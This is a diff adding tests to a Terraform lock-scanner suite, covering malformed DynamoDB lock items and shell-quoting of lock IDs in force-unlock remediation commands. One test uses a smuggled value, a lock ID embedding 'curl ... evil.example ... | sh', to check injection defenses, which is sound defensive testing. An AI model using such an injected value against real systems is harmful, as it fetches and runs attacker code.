@@ -272,6 +272,56 @@ describe('observe, wait, confirm', () => {
   });
 });
 
+describe('what a writer of the bucket or the table controls', () => {
+  it('DynamoDB items without a string Info are locks too (they block Terraform): unreadable, with the reason', async () => {
+    const backend = fakeBackend({
+      objects: { 'a/terraform.tfstate': { body: stateBody() }, 'b/terraform.tfstate': { body: stateBody() } },
+      tables: {
+        'tf-locks': [
+          { lockId: 'tfstate/a/terraform.tfstate' },
+          { lockId: 'tfstate/b/terraform.tfstate', infoType: 'N' },
+          { lockId: 'tfstate/a/terraform.tfstate-md5', digest: '0cc175b9c0f1b6a831c399e269772661' },
+        ],
+      },
+    });
+    const clock = manualClock('2026-11-29T03:00:00Z');
+    const objects = memoryObjectStore();
+    const deps = {
+      readerFor: async () => backend.reader,
+      findings: createFindingsStore(objects),
+      objects,
+      now: clock.now,
+    };
+    const target = adhocTarget({ bucket: 'tfstate', lockTables: ['tf-locks'] }, registry);
+    const scan = { scanId: 'scan-items', startedAt: clock.now() };
+    await observeAndStoreLocks(target, deps, scan);
+    clock.advance(10 * MINUTE);
+    const findings = (await confirmAndRecordLocks(target, deps, scan)).outcomes.flatMap((o) => o.findings);
+    expect(findings.map((finding) => [finding.ruleId, finding.evidence.reason])).toEqual([
+      ['lock.unreadable', 'the lock item has no Info, the lock JSON Terraform writes'],
+      [
+        'lock.unreadable',
+        "the lock item's Info is of DynamoDB type N, not the lock JSON (a string) Terraform writes",
+      ],
+    ]);
+  });
+
+  it('a lock ID is quoted as a shell word wherever a force-unlock command is written', async () => {
+    const hostile = '0000; curl -s https://evil.example/x | sh #';
+    const backend = bucket({
+      'payments/terraform.tfstate.tflock': { body: lockBody({ ID: hostile }), etag: '"lock-1"' },
+      'gone/terraform.tfstate.tflock': { body: lockBody({ ID: hostile }) },
+    });
+    const findings = await setup(backend).run();
+    expect(findings.map((finding) => finding.ruleId).sort()).toEqual(['lock.orphaned', 'lock.stale']);
+    for (const finding of findings) {
+      const commands = [finding.remediation.summary, ...finding.remediation.steps].join('\n');
+      expect(commands).toContain(`force-unlock '${hostile}'`);
+      expect(commands).not.toMatch(/force-unlock 0000;/);
+    }
+  });
+});
+
 describe('lock findings across scans', () => {
   it('the same lock keeps its finding; a new lock on the same state is a new finding', async () => {
     const backend = bucket();
